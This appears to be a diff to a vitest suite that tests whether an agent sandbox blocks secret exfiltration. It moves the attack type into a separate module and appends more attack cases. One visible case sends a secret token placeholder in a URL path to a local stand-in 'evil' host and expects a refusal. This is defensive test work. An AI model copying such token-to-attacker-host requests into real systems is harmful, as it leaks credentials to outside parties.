@@ -4,6 +4,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 
 import { type Lab, type Outcome, openLab, token } from './attacks/lab.js';
+import { type Attack, moreAttacks } from './attacks/more.js';
 
 let lab: Lab;
 beforeAll(async () => {
@@ -11,9 +12,6 @@ beforeAll(async () => {
 });
 afterAll(() => lab.close());
 beforeEach(() => lab.reset());
-
-/** One way in which an agent may try to get a secret out, and what it comes to. */
-type Attack = readonly [topic: string, way: string, outcome: RegExp, attempt: (lab: Lab) => Promise<unknown>];
 
 const refused = /^SECRET_HOST_REFUSED$/;
 const away = (path = '') => `http://localhost:${lab.evil}${path}`;
@@ -593,6 +591,7 @@ const attacks: readonly Attack[] = [
       return lab.send({ url: away('/{{TOKEN}}') });
     },
   ],
+  ...moreAttacks,
 ];
 
 /** What an agent is told by an error, or by the fault of an execution. */
